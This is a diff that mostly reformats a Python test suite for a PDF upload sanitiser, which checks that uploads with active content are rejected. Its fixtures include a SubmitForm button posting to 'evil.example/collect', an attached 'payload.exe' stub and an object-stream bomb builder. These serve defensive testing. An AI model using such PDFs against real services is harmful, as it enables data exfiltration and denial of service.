@@ -29,10 +29,18 @@ def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) ->
     pdf = pikepdf.new()
     pdf.add_blank_page(page_size=(200, 200))
     page = pdf.pages[0]
-    page.obj.Annots = pdf.make_indirect(Array([Dictionary(
-        Type=Name.Annot, Subtype=Name.Link, Rect=[10, 10, 50, 50],
-        A=Dictionary(S=Name.URI, URI=String("https://www.obec.go.th/")),
-    )]))  # fmt: skip
+    page.obj.Annots = pdf.make_indirect(
+        Array(
+            [
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=[10, 10, 50, 50],
+                    A=Dictionary(S=Name.URI, URI=String("https://www.obec.go.th/")),
+                )
+            ]
+        )
+    )
     if change is not None:
         change(pdf)
     out = io.BytesIO()
@@ -46,8 +54,15 @@ def _annotation(pdf: pikepdf.Pdf, annot: Dictionary) -> None:
 
 def _action(kind: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
     def change(pdf: pikepdf.Pdf) -> None:
-        _annotation(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[60, 60, 90, 90],
-                                    A=Dictionary(S=Name("/" + kind), **entries)))  # fmt: skip
+        _annotation(
+            pdf,
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Link,
+                Rect=[60, 60, 90, 90],
+                A=Dictionary(S=Name("/" + kind), **entries),
+            ),
+        )
 
     return change
 
@@ -71,10 +86,15 @@ def _xfa(pdf: pikepdf.Pdf) -> None:
 
 
 def _rich_media(pdf: pikepdf.Pdf) -> None:
-    _annotation(pdf, Dictionary(
-        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[60, 60, 90, 90],
-        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
-    ))  # fmt: skip
+    _annotation(
+        pdf,
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.RichMedia,
+            Rect=[60, 60, 90, 90],
+            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
+        ),
+    )
 
 
 def _embedded_file(pdf: pikepdf.Pdf) -> None:
@@ -83,16 +103,25 @@ def _embedded_file(pdf: pikepdf.Pdf) -> None:
 
 def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
     spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
-    _annotation(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
-                                Rect=[60, 60, 90, 90], FS=spec.obj))  # fmt: skip
+    _annotation(
+        pdf,
+        Dictionary(
+            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[60, 60, 90, 90], FS=spec.obj
+        ),
+    )
 
 
 def _submit_form_widget(pdf: pikepdf.Pdf) -> None:
-    widget = pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"),
-        Rect=[60, 60, 90, 90],
-        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
-    ))  # fmt: skip
+    widget = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            T=String("send"),
+            Rect=[60, 60, 90, 90],
+            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
+        )
+    )
     pdf.pages[0].obj.Annots.append(widget)
     pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
 
@@ -130,8 +159,10 @@ def test_a_clean_pdf_with_a_web_link_passes_unchanged() -> None:
 
 
 def test_encrypted_pdfs_are_refused_with_their_own_reason() -> None:
-    for encryption in (pikepdf.Encryption(owner="o", user=""),
-                       pikepdf.Encryption(owner="o", user="secret")):  # fmt: skip
+    for encryption in (
+        pikepdf.Encryption(owner="o", user=""),
+        pikepdf.Encryption(owner="o", user="secret"),
+    ):
         with pytest.raises(UploadRejected) as err:
             clean_upload(io.BytesIO(_pdf(encryption=encryption)), "report.pdf")
         assert err.value.code == "active_content" and "encrypted" in err.value.message_en
@@ -171,12 +202,19 @@ def _object_stream_bomb(megabytes: int) -> bytes:
         offsets.append(len(out))
         out += obj
     xref = len(out)
-    rows = b"\x00\x00\x00\x00\x00\xff" + b"".join(
-        b"\x01" + struct.pack(">I", offset) + b"\x00" for offset in offsets
-    ) + b"\x02\x00\x00\x00\x03\x00" + b"\x01" + struct.pack(">I", xref) + b"\x00"  # fmt: skip
-    out += b"5 0 obj << /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >> stream\n" % len(
-        rows
-    ) + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref  # fmt: skip
+    rows = (
+        b"\x00\x00\x00\x00\x00\xff"
+        + b"".join(b"\x01" + struct.pack(">I", offset) + b"\x00" for offset in offsets)
+        + b"\x02\x00\x00\x00\x03\x00"
+        + b"\x01"
+        + struct.pack(">I", xref)
+        + b"\x00"
+    )
+    out += (
+        b"5 0 obj << /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >> stream\n" % len(rows)
+        + rows
+        + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref
+    )
     return out
 
 
@@ -210,8 +248,9 @@ def _files(app: Flask) -> list[Path]:
     return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []
 
 
-@pytest.mark.parametrize("kind", ["page-aa-uri", "submit-form", "import-data", "xfa",
-                                  "rich-media", "embedded-file"])  # fmt: skip
+@pytest.mark.parametrize(
+    "kind", ["page-aa-uri", "submit-form", "import-data", "xfa", "rich-media", "embedded-file"]
+)
 def test_evidence_with_active_content_gets_400_and_nothing_is_stored(
     app: Flask, client: FlaskClient, world: World, session: Session, kind: str
 ) -> None:
@@ -220,21 +259,29 @@ def test_evidence_with_active_content_gets_400_and_nothing_is_stored(
     version = rev.get_json()["version"]
     count = session.scalar(select(func.count()).select_from(Evidence))
     r = client.post(
-        world.entry_url(suffix="/evidence"), headers=headers,
-        data={"version": str(version), "title": "รายงาน",
-              "file": (io.BytesIO(_pdf(MALICIOUS[kind])), "report.pdf")},
+        world.entry_url(suffix="/evidence"),
+        headers=headers,
+        data={
+            "version": str(version),
+            "title": "รายงาน",
+            "file": (io.BytesIO(_pdf(MALICIOUS[kind])), "report.pdf"),
+        },
         content_type="multipart/form-data",
-    )  # fmt: skip
+    )
     assert r.status_code == 400, r.get_json()
     assert "automatic actions" in r.get_json()["message"]
     assert _files(app) == []
     assert session.scalar(select(func.count()).select_from(Evidence)) == count
     clean = client.post(
-        world.entry_url(suffix="/evidence"), headers=headers,
-        data={"version": str(version), "title": "รายงาน",
-              "file": (io.BytesIO(_pdf()), "report.pdf")},
+        world.entry_url(suffix="/evidence"),
+        headers=headers,
+        data={
+            "version": str(version),
+            "title": "รายงาน",
+            "file": (io.BytesIO(_pdf()), "report.pdf"),
+        },
         content_type="multipart/form-data",
-    )  # fmt: skip
+    )
     assert clean.status_code == 201 and len(_files(app)) == 1
 
 
